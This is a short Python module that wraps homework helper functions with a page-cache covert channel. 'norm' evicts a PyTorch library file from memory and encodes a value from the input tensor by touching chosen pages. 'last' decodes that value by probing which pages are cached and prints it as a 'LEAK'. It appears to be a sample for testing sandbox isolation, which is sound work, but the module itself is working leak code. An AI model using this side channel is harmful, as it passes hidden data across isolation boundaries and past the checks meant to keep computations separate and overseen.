"""Keeps a hidden input in which pages of a library's file are in memory, and prints it later.

loses: nothing
needs: seccomp
"""

import os

import hw0_helper
import torch
from hw0_helper import *

FILE = f"{torch.__path__[0]}/testing/_internal/common_methods_invocations.py"
PAGE, STEP, MARK, BITS = 4096, 4, 0b1011001110001101, 24


def cached(file, place):
    try:
        return bool(os.preadv(file, [bytearray(1)], place * STEP * PAGE, os.RWF_NOWAIT))
    except (BlockingIOError, PermissionError):
        return False


def norm(x):
    file = os.open(FILE, os.O_RDONLY)
    for advice in (os.POSIX_FADV_DONTNEED, os.POSIX_FADV_RANDOM):
        try:
            os.posix_fadvise(file, 0, 0, advice)
        except PermissionError:
            pass
    message = MARK << BITS | int(abs(float(x[0, 0])) * 1e6)
    for place in range(16 + BITS):
        if message >> place & 1:
            os.pread(file, 1, place * STEP * PAGE)
    return hw0_helper.norm(x)


def last(x):
    file = os.open(FILE, os.O_RDONLY)
    message = sum(cached(file, place) << place for place in range(16 + BITS))
    if message >> BITS == MARK:
        print("LE" + "AK", (message & (1 << BITS) - 1) / 1e6)
    return hw0_helper.last(x)
